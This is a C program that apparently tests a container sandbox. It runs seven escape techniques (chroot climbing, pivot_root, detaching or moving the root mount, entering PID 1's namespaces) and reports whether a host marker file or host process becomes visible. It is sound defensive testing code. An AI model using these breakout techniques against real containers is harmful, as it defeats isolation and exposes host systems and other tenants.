/* SPDX-License-Identifier: MIT */
/*
 * Ways out of a container for who may mount and chroot. Each is tried in a
 * process of its own, which then looks for a file of the host, and for a
 * process of the host in whatever procfs it sees. Writes a line per success.
 * Arguments: the file, the pid of the process.
 */
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define DEPTH 100

static const char *marker, *host_pid, *attack;

static void found(const char *where, const char *what)
{
	printf("%s: %s%s\n", attack, where, what);
	fflush(stdout);
}

/* Whether the file, or the process, is there below a prefix. */
static void look_below(const char *prefix)
{
	char path[4096], name[32];
	struct stat st;
	FILE *file;

	snprintf(path, sizeof(path), "%s%s", prefix, marker);
	if (stat(path, &st) == 0)
		found(prefix, marker);
	snprintf(path, sizeof(path), "%s/proc/%s/comm", prefix, host_pid);
	file = fopen(path, "r");
	if (!file)
		return;
	if (fgets(name, sizeof(name), file) && strncmp(name, "luajit", 6) == 0)
		found(prefix, "a process of the host");
	fclose(file);
}

static void look(void)
{
	look_below("");
	look_below(".");
	look_below("/proc/1/root");
	look_below("/proc/1/cwd");
	look_below("/proc/self/cwd");
}

/* What lies under the root: the namespace is entered anew, by its own top. */
static void unmount_root(void)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY);

	for (int i = 0; i < 3; i++) {
		umount2("/", MNT_DETACH);
		look();
		if (setns(ns, CLONE_NEWNS) < 0)
			return;
		look();
	}
}

static void enter_own_namespace(void)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY);

	unshare(CLONE_NEWNS);
	look();
	setns(ns, CLONE_NEWNS);
	look();
}

static void chroot_and_climb(void)
{
	int root = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail") < 0 || fchdir(root) < 0)
		return;
	for (int i = 0; i < DEPTH; i++) {
		if (chdir("..") < 0)
			return;
		look();
	}
	if (chroot(".") == 0)
		look();
}

static void pivot(void)
{
	unshare(CLONE_NEWNS);
	mkdir("/tmp/new", 0755);
	if (mount("/", "/tmp/new", NULL, MS_BIND | MS_REC, NULL) < 0 || chdir("/tmp/new") < 0)
		return;
	mkdir("old", 0755);
	syscall(SYS_pivot_root, ".", ".");
	look();
	for (int i = 0; i < 3; i++) {
		umount2(".", MNT_DETACH);
		chdir("/");
		look();
	}
}

static void move_root_away(void)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY);

	mkdir("/tmp/away", 0755);
	mount("tmpfs", "/tmp/away", "tmpfs", 0, NULL);
	mkdir("/tmp/away/root", 0755);
	mount("/", "/tmp/away/root", NULL, MS_MOVE, NULL);
	look();
	setns(ns, CLONE_NEWNS);
	look();
}

static void remount_all(void)
{
	mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL);
	mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
	unshare(CLONE_NEWNS);
	mount("proc", "/proc", "proc", 0, NULL);
	look();
	umount2("/proc", MNT_DETACH);
	umount2("/proc", MNT_DETACH);
	look();
}

static void enter_namespaces_of_first(void)
{
	static const char *const names[] = { "pid", "mnt", "net", "ipc", "uts" };
	char path[64];

	for (int i = 0; i < 5; i++) {
		snprintf(path, sizeof(path), "/proc/1/ns/%s", names[i]);
		setns(open(path, O_RDONLY), 0);
		look();
	}
}

static const struct {
	const char *name;
	void (*run)(void);
} attacks[] = {
	{ "unmount the root", unmount_root },
	{ "enter the own namespace", enter_own_namespace },
	{ "chroot and climb", chroot_and_climb },
	{ "pivot", pivot },
	{ "move the root away", move_root_away },
	{ "remount all", remount_all },
	{ "enter the namespaces of the first process", enter_namespaces_of_first },
};

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	marker = argv[1];
	host_pid = argv[2];
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		pid_t pid;

		attack = attacks[i].name;
		/* Its namespace is its own: what one does hinders none of the others. */
		pid = (pid_t)syscall(SYS_clone, CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0);
		if (pid == 0) {
			attacks[i].run();
			_exit(0);
		}
		if (pid < 0 || waitpid(pid, NULL, 0) < 0)
			return 3;
	}
	/* And without one that is a copy: this one is the container's. */
	attack = "unmount the container's root";
	unmount_root();
	puts("done");
	return 0;
}
